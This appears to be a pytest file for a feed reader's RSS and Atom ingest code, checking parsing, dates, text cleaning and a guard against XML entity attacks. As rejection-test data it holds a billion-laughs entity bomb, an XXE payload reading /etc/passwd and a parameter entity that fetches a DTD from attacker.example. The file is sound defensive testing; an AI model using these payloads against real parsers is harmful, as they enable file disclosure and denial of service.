"""RSS and Atom through feedparser, behind the entity guard."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from reader.ingest import parse_bytes, read_file
from reader.ingest.feeds import parse_feed_date
from reader.model import IngestError

FIXTURES = Path(__file__).parent / "fixtures" / "ingest"

RSS_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'


def rss(items: str, channel_extra: str = "") -> bytes:
    return (
        f'{RSS_HEAD}<rss version="2.0"><channel><title>Test channel</title>{channel_extra}'
        f"{items}</channel></rss>"
    ).encode()


def test_rss2_fixture() -> None:
    result = read_file(FIXTURES / "rss2-fr.xml")
    assert result.subscriptions == []
    first, second = result.articles
    assert first.title == "La Loire atteint son plus bas niveau depuis trente ans"
    assert first.lang == "fr"  # <language>fr-FR</language>
    assert first.url == "https://rivieres.example.fr/2025/loire-etiage"
    assert first.guid == "rivieres-2025-0412"
    assert first.date == datetime(2025, 4, 12, 8, 30, tzinfo=timezone(timedelta(hours=2)))
    assert first.date.utcoffset() == timedelta(hours=2)  # the written offset survives
    assert first.source == "Agence Fluviale"  # RSS <source>
    assert first.feed == "Le Journal des Rivières"
    assert first.tags == ["Environnement", "Loire"]
    assert first.summary == "Le débit mesuré à Orléans est tombé sous 40 m³/s."
    # content:encoded is preferred over the description; the script is gone.
    assert [(b.kind, b.text) for b in first.blocks] == [
        (
            "paragraph",
            "Le débit mesuré à Orléans est tombé sous 40\u00a0m³/s, un niveau jamais vu au printemps"
            " depuis 1995.",
        ),
        ("heading", "Des mesures de restriction"),
        ("paragraph", "La préfecture a limité l'arrosage dans douze communes[1] riveraines."),  # a link
        ("item", "Interdiction de remplir les piscines"),
        ("item", "Lavage des voitures suspendu"),
        ("quote", "Il faudra des semaines de pluie pour rattraper le retard."),
    ]
    assert "publicité" not in first.text
    # An item's dc:language beats the channel's language.
    assert second.lang == "en"
    assert second.date == datetime(2025, 4, 11, 17, 5, tzinfo=UTC)
    assert second.source == "Le Journal des Rivières"  # no <source>: the feed title
    assert second.summary == ""  # the description is the body, not repeated as summary
    assert [b.text for b in second.blocks] == [
        "Cargo barges are moving again near Strasbourg after a lock gate was replaced over the weekend."
    ]


@pytest.mark.parametrize(
    ("description", "summary"),
    [
        ("<p>Dockers walked out in Brest.</p>", ""),  # the content's first paragraph
        ("<p>Dockers walked out", ""),  # cut short
        ("Dockers walked out in Brest.", ""),  # as text
        ("<p>Port strike: what we know.</p>", "Port strike: what we know."),  # a summary of its own
    ],
)
def test_a_description_that_starts_the_content_is_not_kept_as_a_summary(
    tmp_path: Path, description: str, summary: str
) -> None:
    content = "<p>Dockers walked out in Brest.</p><p>The port is closed until Monday.</p>"
    feed = tmp_path / "wire.xml"
    feed.write_text(
        '<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        "<channel><title>Wire</title><language>en</language><item><guid>g1</guid><title>Port strike</title>"
        f"<description><![CDATA[{description}]]></description>"
        f"<content:encoded><![CDATA[{content}]]></content:encoded></item></channel></rss>",
        encoding="utf-8",
    )
    (article,) = read_file(feed).articles
    assert [b.text for b in article.blocks] == [
        "Dockers walked out in Brest.",
        "The port is closed until Monday.",
    ]
    assert article.summary == summary


def test_atom_fixture_with_hreflang_alternate() -> None:
    first, second = read_file(FIXTURES / "atom-en.atom").articles
    assert first.title == "New tide gauges installed in Halifax"  # type="html" title made plain
    assert first.lang == "en"
    assert first.url == "https://harbour.example.com/en/gauges"
    assert first.alternates == {"fr": "https://harbour.example.com/fr/maregraphes"}
    assert first.date == datetime(2025, 5, 1, 14, 20, tzinfo=timezone(timedelta(hours=-3)))  # published
    assert first.tags == ["Science"]
    assert first.summary == "Six sensors now report the water level every minute."
    assert [b.kind for b in first.blocks] == ["paragraph", "heading", "paragraph"]
    assert first.blocks[1].text == "Why it matters"
    assert second.date == datetime(2025, 4, 28, 7, 0, tzinfo=UTC)  # updated when no published
    assert second.blocks[0].text.startswith("From June, the first crossing")


def test_rss1_rdf_fixture() -> None:
    [article] = read_file(FIXTURES / "rss1-en.rdf").articles
    assert article.title == "Late frost spares most apple blossoms"
    assert article.lang == "en"  # dc:language en-GB
    assert article.date == datetime(2025, 4, 20, 6, 15, tzinfo=timezone(timedelta(hours=1)))
    assert article.source == "Orchard Growers Association"  # dc:publisher


def test_rss091_with_external_dtd_is_allowed() -> None:
    [article] = read_file(FIXTURES / "rss091.xml").articles
    assert article.title == "Lamp lens polished ahead of the storm season"
    assert article.lang == "en"
    assert article.date is None


def test_zero_items_is_not_an_error() -> None:
    assert parse_bytes(rss(""), "empty.xml").articles == []


def test_item_without_title_gets_first_words_and_empty_item_skipped() -> None:
    items = (
        "<item><description>Rain is expected over the whole region during the long weekend ahead "
        "of the holidays.</description></item><item><guid>nothing-here</guid></item>"
    )
    [article] = parse_bytes(rss(items), "f.rss").articles
    assert article.title == "Rain is expected over the whole region during the long…"


@pytest.mark.parametrize(
    "date_element",
    [
        "<pubDate>Mon, 31 Feb 2024 10:00:00 +0100</pubDate>",
        "<pubDate>Tue, 45 Foo 2024 99:99:99 GMT</pubDate>",
        "<pubDate>not a date at all</pubDate>",
    ],
)
def test_impossible_date_gives_none_but_article_is_imported(date_element: str) -> None:
    [article] = parse_bytes(rss(f"<item><title>Still here</title>{date_element}</item>"), "f.xml").articles
    assert article.title == "Still here"
    assert article.date is None


def test_impossible_atom_date_is_not_rolled_over() -> None:
    # feedparser turns 2024-13-45 into 2025-01-01; the raw value is checked first.
    assert parse_feed_date("2024-13-45T00:00:00Z", datetime(2025, 1, 1).timetuple()) is None
    assert parse_feed_date("2024-12-26T04:10:32-08:00", None) == datetime(
        2024, 12, 26, 4, 10, 32, tzinfo=timezone(timedelta(hours=-8))
    )
    assert parse_feed_date("2024-12-26", None) == datetime(2024, 12, 26, tzinfo=UTC)


def test_control_characters_and_escapes_cleaned_in_feed() -> None:
    items = (
        "<item><title>Breaking&#x202E; news [bold]</title><description>Text with a &#x1b;[31m colour"
        " and a bell&#x7;.</description><category>tag&#x200B;</category></item>"
    )
    # XML 1.0 forbids most C0 characters even as references: feedparser's loose parser reads them.
    [article] = parse_bytes(rss(items), "f.xml").articles
    assert article.title == "Breaking news [bold]"
    assert "\x1b" not in article.text and "\x07" not in article.text
    assert "[31m" not in article.text
    assert article.tags == ["tag"]


def test_entity_declaration_inside_cdata_is_not_a_false_alarm() -> None:
    items = (
        "<item><title>XML tips</title>"
        "<description><![CDATA[<p>Never allow <!ENTITY in input.</p>]]></description></item>"
    )
    [article] = parse_bytes(rss(items), "f.xml").articles
    assert article.title == "XML tips"


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
)


@pytest.mark.parametrize(
    "doc",
    [
        BILLION_LAUGHS,
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]>'
        '<rss version="2.0"/>',
        '<?xml version="1.0"?><!-- <a> --><!DOCTYPE r [<!ENTITY e "x">]>'
        '<feed xmlns="http://www.w3.org/2005/Atom"/>',
    ],
    ids=["billion-laughs", "xxe-system-file", "parameter-entity", "after-comment"],
)
def test_entity_declarations_are_rejected(doc: str) -> None:
    with pytest.raises(IngestError, match="entity"):
        parse_bytes(doc.encode(), "attack.xml")


def test_entity_declarations_rejected_in_utf16() -> None:
    doc = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY e "boom">]><rss><channel/></rss>'
    with pytest.raises(IngestError, match="entity"):
        parse_bytes(doc.encode("utf-16"), "attack.rss")


def test_truncated_xml() -> None:
    data = (FIXTURES / "rss2-fr.xml").read_bytes()
    with pytest.raises(IngestError, match="truncated XML"):
        parse_bytes(data[: len(data) // 2], "cut.xml")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (bytes(range(256)) * 8, "not a valid feed"),
        (b"hello, this is not XML", "not a valid feed"),
        (b"<foo><bar/></foo>", "not a feed"),
    ],
)
def test_not_a_feed(data: bytes, reason: str) -> None:
    with pytest.raises(IngestError, match=reason):
        parse_bytes(data, "bad.xml")


def test_malformed_but_recoverable_feed_is_read() -> None:
    # An undefined HTML entity makes the XML invalid; feedparser's tolerant parser still reads it.
    [article] = parse_bytes(rss("<item><title>Caf&eacute; opens</title></item>"), "f.xml").articles
    assert article.title == "Café opens"


def test_deep_nesting_in_item_html() -> None:
    deep = "<div>" * 20_000 + "deep text" + "</div>" * 20_000
    items = f"<item><title>Deep</title><description><![CDATA[{deep}]]></description></item>"
    [article] = parse_bytes(rss(items), "deep.xml").articles
    assert [b.text for b in article.blocks] == ["deep text"]


def test_feed_url_set_for_http_origin() -> None:
    [article] = parse_bytes(
        rss(
            "<item><title>Item</title><link>/relative/path</link></item>",
            "<link>https://site.example/</link>",
        ),
        "https://site.example/feed.xml",
        content_type="application/rss+xml; charset=utf-8",
    ).articles
    assert article.feed_url == "https://site.example/feed.xml"
    assert article.origin == "https://site.example/feed.xml"
    assert article.url == "https://site.example/relative/path"
